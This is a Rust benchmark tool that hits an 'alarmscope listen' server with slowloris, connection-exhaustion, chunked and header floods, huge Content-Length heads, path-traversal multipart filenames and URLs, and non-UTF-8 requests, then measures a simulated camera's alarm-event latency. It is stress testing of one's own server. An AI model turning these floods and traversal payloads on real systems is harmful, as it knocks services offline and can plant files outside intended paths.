//! Attack client for `alarmscope listen` (used by `benches/attack.sh`): runs one attack against a
//! running server while a well-behaved device posts XML events at a fixed rate, and reports the
//! device's answer latency.
//!
//! ```text
//! listen_attack ADDR SCENARIO [EVENTS=200] [RATE=20]
//!   SCENARIO  baseline   no attack
//!             idle       2000 connections that never send a byte (reopened 1 s after the server
//!                        closes one)
//!             slowloris  500 connections (started 2 ms apart) dribbling one header byte per
//!                        second, reconnecting when cut
//!             chunked    8 endless chunked bodies at full speed
//!             huge-cl    8 loops sending `Content-Length: 10^15` heads
//!             headers    8 loops: 3000 header fields, or one header line that never ends
//!             traversal  4 loops posting multipart events with path-traversal part names and URLs
//!             nonutf8    4 loops sending non-UTF-8 bytes in method, path, headers, bodies, parts
//!   EVENTS    device events (one per connection, open loop: sent on schedule even when
//!             earlier ones are still waiting)
//!   RATE      device events per second
//! ```
//! Prints one line: `events=N ok=N p50_ms=.. p99_ms=.. max_ms=.. errors=N attack="..."`; a
//! device event is an error unless answered 200 within 10 s.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a bench/load tool, not the product: a panic is its failure report

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<EventNotificationAlert version=\"2.0\" xmlns=\"http://www.hikvision.com/ver20/XMLSchema\">\r\n<ipAddress>10.0.0.5</ipAddress>\r\n<portNo>80</portNo>\r\n<protocol>HTTP</protocol>\r\n<macAddress>44:19:b6:00:00:01</macAddress>\r\n<channelID>1</channelID>\r\n<dateTime>2024-02-29T12:34:56+08:00</dateTime>\r\n<activePostCount>1</activePostCount>\r\n<eventType>VMD</eventType>\r\n<eventState>active</eventState>\r\n<eventDescription>Motion alarm</eventDescription>\r\n</EventNotificationAlert>\r\n";

const DEVICE_TIMEOUT: Duration = Duration::from_secs(10);

fn request(path: &str, ct: &[u8], body: &[u8]) -> Vec<u8> {
    let mut r = format!("POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: ").into_bytes();
    r.extend_from_slice(ct);
    r.extend_from_slice(
        format!(
            "\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .as_bytes(),
    );
    r.extend_from_slice(body);
    r
}

/// Status of the response in `got`, once its head is complete.
fn status_of(got: &[u8]) -> Option<u16> {
    let end = got.windows(4).position(|w| w == b"\r\n\r\n")?;
    String::from_utf8_lossy(&got[..end])
        .split(' ')
        .nth(1)?
        .parse()
        .ok()
}

/// Read until a response head is complete (or the connection ends); its status.
async fn read_status(s: &mut (impl AsyncReadExt + Unpin)) -> std::io::Result<Option<u16>> {
    let mut got = Vec::new();
    let mut b = [0u8; 4096];
    loop {
        if let Some(st) = status_of(&got) {
            return Ok(Some(st));
        }
        let n = s.read(&mut b).await?;
        if n == 0 {
            return Ok(status_of(&got));
        }
        got.extend_from_slice(&b[..n]);
    }
}

/// What the attack did.
#[derive(Default)]
struct Stats {
    connections: AtomicU64,
    closed_by_server: AtomicU64,
    bytes_sent: AtomicU64,
    statuses: Mutex<BTreeMap<String, u64>>,
}

impl Stats {
    fn status(&self, s: Option<u16>) {
        let k = s.map_or("none".to_string(), |s| s.to_string());
        if let Ok(mut m) = self.statuses.lock() {
            *m.entry(k).or_default() += 1;
        }
    }

    fn summary(&self) -> String {
        let statuses = self
            .statuses
            .lock()
            .map(|m| {
                m.iter()
                    .map(|(k, v)| format!("{k}:{v}"))
                    .collect::<Vec<_>>()
                    .join(",")
            })
            .unwrap_or_default();
        format!(
            "conns={} closed_by_server={} sent_MB={:.1} answers={}",
            self.connections.load(Ordering::Relaxed),
            self.closed_by_server.load(Ordering::Relaxed),
            self.bytes_sent.load(Ordering::Relaxed) as f64 / 1e6,
            if statuses.is_empty() { "-" } else { &statuses }
        )
    }
}

async fn connect(addr: SocketAddr, stats: &Stats) -> Option<TcpStream> {
    match tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(addr)).await {
        Ok(Ok(s)) => {
            stats.connections.fetch_add(1, Ordering::Relaxed);
            Some(s)
        }
        _ => {
            tokio::time::sleep(Duration::from_millis(100)).await;
            None
        }
    }
}

/// Send `raw` (as far as the server reads it) and count the answer.
async fn send_and_count(addr: SocketAddr, raw: &[u8], stats: &Stats) {
    let Some(s) = connect(addr, stats).await else {
        return;
    };
    let (mut r, mut w) = s.into_split();
    let writer = async {
        if w.write_all(raw).await.is_ok() {
            stats
                .bytes_sent
                .fetch_add(raw.len() as u64, Ordering::Relaxed);
        }
    };
    let (_, status) = tokio::join!(writer, read_status(&mut r));
    stats.status(status.ok().flatten());
}

async fn idle_one(addr: SocketAddr, stats: Arc<Stats>) {
    loop {
        let Some(mut s) = connect(addr, &stats).await else {
            continue;
        };
        let mut b = [0u8; 512];
        // Never send; wait for the server to close (reads 0 or fails).
        while let Ok(n) = s.read(&mut b).await {
            if n == 0 {
                break;
            }
        }
        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

async fn slowloris_one(addr: SocketAddr, stats: Arc<Stats>) {
    loop {
        let Some(s) = connect(addr, &stats).await else {
            continue;
        };
        let (mut r, mut w) = s.into_split();
        let dribble = async {
            if w.write_all(b"POST /slow HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                .await
                .is_err()
            {
                return;
            }
            loop {
                tokio::time::sleep(Duration::from_secs(1)).await;
                if w.write_all(b"x").await.is_err() {
                    return;
                }
                stats.bytes_sent.fetch_add(1, Ordering::Relaxed);
            }
        };
        // The answer (408) ends the connection; the dribbler is dropped with it.
        let status = tokio::select! {
            s = read_status(&mut r) => s.ok().flatten(),
            _ = dribble => None,
        };
        stats.status(status);
        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

async fn chunked_one(addr: SocketAddr, stats: Arc<Stats>) {
    let data = vec![b'A'; 64 * 1024];
    let mut chunk = format!("{:x}\r\n", data.len()).into_bytes();
    chunk.extend_from_slice(&data);
    chunk.extend_from_slice(b"\r\n");
    loop {
        let Some(s) = connect(addr, &stats).await else {
            continue;
        };
        let (mut r, mut w) = s.into_split();
        let flood = async {
            if w.write_all(b"POST /endless HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nTransfer-Encoding: chunked\r\n\r\n").await.is_err() {
                return;
            }
            while w.write_all(&chunk).await.is_ok() {
                stats
                    .bytes_sent
                    .fetch_add(data.len() as u64, Ordering::Relaxed);
            }
        };
        let (_, status) = tokio::join!(flood, read_status(&mut r));
        stats.status(status.ok().flatten());
    }
}

async fn huge_cl_one(addr: SocketAddr, stats: Arc<Stats>) {
    let raw = b"POST /huge HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\nContent-Length: 1000000000000000\r\n\r\n";
    loop {
        send_and_count(addr, raw, &stats).await;
    }
}

async fn headers_one(addr: SocketAddr, stats: Arc<Stats>, k: usize) {
    let mut many = b"POST /f HTTP/1.1\r\nHost: x\r\n".to_vec();
    for i in 0..3000 {
        many.extend_from_slice(format!("X-{i}: v\r\n").as_bytes());
    }
    many.extend_from_slice(b"Content-Length: 0\r\n\r\n");
    let line = vec![b'a'; 64 * 1024];
    let mut round = k;
    loop {
        round += 1;
        if round.is_multiple_of(2) {
            send_and_count(addr, &many, &stats).await;
            continue;
        }
        // One header line that never ends.
        let Some(s) = connect(addr, &stats).await else {
            continue;
        };
        let (mut r, mut w) = s.into_split();
        let flood = async {
            if w.write_all(b"POST /f HTTP/1.1\r\nX-Huge: ").await.is_err() {
                return;
            }
            while w.write_all(&line).await.is_ok() {
                stats
                    .bytes_sent
                    .fetch_add(line.len() as u64, Ordering::Relaxed);
            }
        };
        let (_, status) = tokio::join!(flood, read_status(&mut r));
        stats.status(status.ok().flatten());
    }
}

fn multipart(parts: &[(&[u8], &[u8])]) -> (Vec<u8>, Vec<u8>) {
    let b = "MIME_boundary";
    let mut body = Vec::new();
    body.extend_from_slice(format!("--{b}\r\nContent-Disposition: form-data; name=\"meta.xml\"; filename=\"meta.xml\"\r\nContent-Type: application/xml\r\nContent-Length: {}\r\n\r\n{XML}\r\n", XML.len()).as_bytes());
    for (disposition, data) in parts {
        body.extend_from_slice(format!("--{b}\r\nContent-Disposition: form-data; ").as_bytes());
        body.extend_from_slice(disposition);
        body.extend_from_slice(b"\r\nContent-Type: image/jpeg\r\n\r\n");
        body.extend_from_slice(data);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{b}--\r\n").as_bytes());
    (
        format!("multipart/form-data; boundary={b}").into_bytes(),
        body,
    )
}

async fn traversal_one(addr: SocketAddr, stats: Arc<Stats>) {
    let pic = b"\xff\xd8picture\xff\xd9";
    let (ct, body) = multipart(&[
        (
            b"name=\"../../../../../../tmp/evil.jpg\"; filename=\"../../../../../../tmp/evil.jpg\"",
            pic,
        ),
        (b"name=\"x\"; filename=\"..\\\\..\\\\..\\\\evil.jpg\"", pic),
        (b"name=\"x\"; filename=\"/etc/evil.jpg\"", pic),
        (b"name=\"x\"; filename*=UTF-8''..%2F..%2Fevil.jpg", pic),
        (b"name=\"..\"", pic),
    ]);
    let paths = [
        "/../../../../tmp/evil",
        "/%2e%2e/%2e%2e/evil",
        "/..%2f..%2fevil",
    ];
    let mut i = 0usize;
    loop {
        i += 1;
        let path = paths[i % paths.len()];
        send_and_count(addr, &request(path, &ct, &body), &stats).await;
    }
}

async fn nonutf8_one(addr: SocketAddr, stats: Arc<Stats>) {
    let xml = XML.as_bytes();
    let bad_xml: Vec<u8> = xml
        .iter()
        .flat_map(|&b| {
            if b == b'V' {
                vec![0xff, 0xfe, b'V']
            } else {
                vec![b]
            }
        })
        .collect();
    let (mp_ct, mp_body) = multipart(&[(
        b"name=\"\xff\xfe\x80\"; filename=\"\xc3\x28\xa0\xa1.jpg\"",
        b"\xff\xd8x\xff\xd9",
    )]);
    let with = |head: &[u8], body: &[u8]| {
        let mut r = head.to_vec();
        r.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
        r.extend_from_slice(body);
        r
    };
    let mut mp = b"POST /mp HTTP/1.1\r\nContent-Type: ".to_vec();
    mp.extend_from_slice(&mp_ct);
    mp.extend_from_slice(b"\r\n");
    let cases: Vec<Vec<u8>> = vec![
        with(b"P\xffST /a HTTP/1.1\r\n", xml),
        with(b"POST /\xff\xfe HTTP/1.1\r\n", xml),
        with(b"POST /a HTTP/1.1\r\nX-\xff: v\r\n", xml),
        with(b"POST /a HTTP/1.1\r\nHost: \xff\xfe\r\n", xml),
        with(
            b"POST /a HTTP/1.1\r\nContent-Type: application/xml\r\n",
            &bad_xml,
        ),
        with(&mp, &mp_body),
        vec![0xff; 2000],
    ];
    let mut i = 0usize;
    loop {
        i += 1;
        send_and_count(addr, &cases[i % cases.len()], &stats).await;
    }
}

/// Start the attack's tasks; they run until aborted.
fn start_attack(
    rt: &tokio::runtime::Runtime,
    scenario: &str,
    addr: SocketAddr,
    stats: &Arc<Stats>,
) -> Vec<tokio::task::JoinHandle<()>> {
    let st = || stats.clone();
    let n = |k: usize| 0..k;
    match scenario {
        "baseline" => Vec::new(),
        "idle" => n(2000).map(|_| rt.spawn(idle_one(addr, st()))).collect(),
        // Started 2 ms apart, as a steady attack would be (not 500 cuts in the same instant).
        "slowloris" => n(500)
            .map(|i| {
                let s = st();
                rt.spawn(async move {
                    tokio::time::sleep(Duration::from_millis(2 * i as u64)).await;
                    slowloris_one(addr, s).await
                })
            })
            .collect(),
        "chunked" => n(8).map(|_| rt.spawn(chunked_one(addr, st()))).collect(),
        "huge-cl" => n(8).map(|_| rt.spawn(huge_cl_one(addr, st()))).collect(),
        "headers" => n(8).map(|k| rt.spawn(headers_one(addr, st(), k))).collect(),
        "traversal" => n(4).map(|_| rt.spawn(traversal_one(addr, st()))).collect(),
        "nonutf8" => n(4).map(|_| rt.spawn(nonutf8_one(addr, st()))).collect(),
        other => {
            eprintln!("unknown scenario {other}");
            std::process::exit(2);
        }
    }
}

/// One device event on a new connection: its latency, or why it failed.
async fn device_event(addr: SocketAddr, i: u64) -> Result<Duration, String> {
    let t = Instant::now();
    let go = async {
        let mut s = TcpStream::connect(addr)
            .await
            .map_err(|e| format!("connect: {e}"))?;
        s.write_all(&request(
            &format!("/ISAPI/alarm/dev-{i}"),
            b"application/xml; charset=\"UTF-8\"",
            XML.as_bytes(),
        ))
        .await
        .map_err(|e| format!("write: {e}"))?;
        match read_status(&mut s).await {
            Ok(Some(200)) => Ok(t.elapsed()),
            Ok(other) => Err(format!("status {other:?}")),
            Err(e) => Err(format!("read: {e}")),
        }
    };
    tokio::time::timeout(DEVICE_TIMEOUT, go)
        .await
        .unwrap_or_else(|_| Err("timed out".into()))
}

/// The device, on its own thread and runtime so the attack's tasks do not delay its clock.
fn run_device(addr: SocketAddr, events: u64, rate: f64) -> Vec<Result<Duration, String>> {
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("device runtime");
        rt.block_on(async move {
            let interval = Duration::from_secs_f64(1.0 / rate.max(0.001));
            let start = tokio::time::Instant::now();
            let mut hs = Vec::new();
            for i in 0..events {
                tokio::time::sleep_until(start + interval * i as u32).await;
                hs.push(tokio::spawn(device_event(addr, i)));
            }
            let mut out = Vec::new();
            for h in hs {
                out.push(h.await.unwrap_or_else(|e| Err(e.to_string())));
            }
            out
        })
    })
    .join()
    .expect("device thread")
}

#[allow(unsafe_code)] // a libc call the standard library does not wrap; see SAFETY below
fn raise_nofile() {
    let mut r = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit with a pointer to a valid local rlimit.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut r) == 0 && r.rlim_cur < r.rlim_max {
            r.rlim_cur = r.rlim_max.min(65_536);
            let _ = libc::setrlimit(libc::RLIMIT_NOFILE, &r);
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let (Some(addr), Some(scenario)) = (args.get(1), args.get(2)) else {
        eprintln!("usage: listen_attack ADDR SCENARIO [EVENTS] [RATE]");
        std::process::exit(2);
    };
    let addr: SocketAddr = addr.parse().expect("ADDR:PORT");
    let events: u64 = args.get(3).and_then(|v| v.parse().ok()).unwrap_or(200);
    let rate: f64 = args.get(4).and_then(|v| v.parse().ok()).unwrap_or(20.0);
    raise_nofile();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let stats = Arc::new(Stats::default());
    let attack = start_attack(&rt, scenario, addr, &stats);
    // Let the attack build up before the device starts.
    if !attack.is_empty() {
        std::thread::sleep(Duration::from_secs(2));
    }
    let results = run_device(addr, events, rate);
    for h in &attack {
        h.abort();
    }
    let mut lat: Vec<f64> = results
        .iter()
        .filter_map(|r| r.as_ref().ok())
        .map(|d| d.as_secs_f64() * 1000.0)
        .collect();
    lat.sort_by(f64::total_cmp);
    let errors: Vec<&String> = results.iter().filter_map(|r| r.as_ref().err()).collect();
    let pct = |p: f64| -> f64 {
        if lat.is_empty() {
            return f64::NAN;
        }
        let i = ((lat.len() as f64 * p).ceil() as usize).clamp(1, lat.len()) - 1;
        lat[i]
    };
    if let Some(first) = errors.first() {
        eprintln!("device errors: {} (first: {first})", errors.len());
    }
    println!(
        "events={} ok={} p50_ms={:.1} p99_ms={:.1} max_ms={:.1} errors={} attack=\"{}\"",
        results.len(),
        lat.len(),
        pct(0.5),
        pct(0.99),
        lat.last().copied().unwrap_or(f64::NAN),
        errors.len(),
        stats.summary()
    );
    rt.shutdown_timeout(Duration::from_secs(1));
}
